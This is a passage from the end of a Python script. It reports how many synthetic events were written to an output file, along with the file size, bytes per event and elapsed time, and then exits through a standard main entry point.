    size = write_events(args.out, args.count, args.seed)
    dt = time.perf_counter() - t0
    print(
        f"wrote {args.count:,} events ({size / 1e6:.1f} MB, {size / max(args.count, 1):.0f} B/event) "
        f"to {args.out} in {dt:.2f}s",
        file=sys.stderr,
    )
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
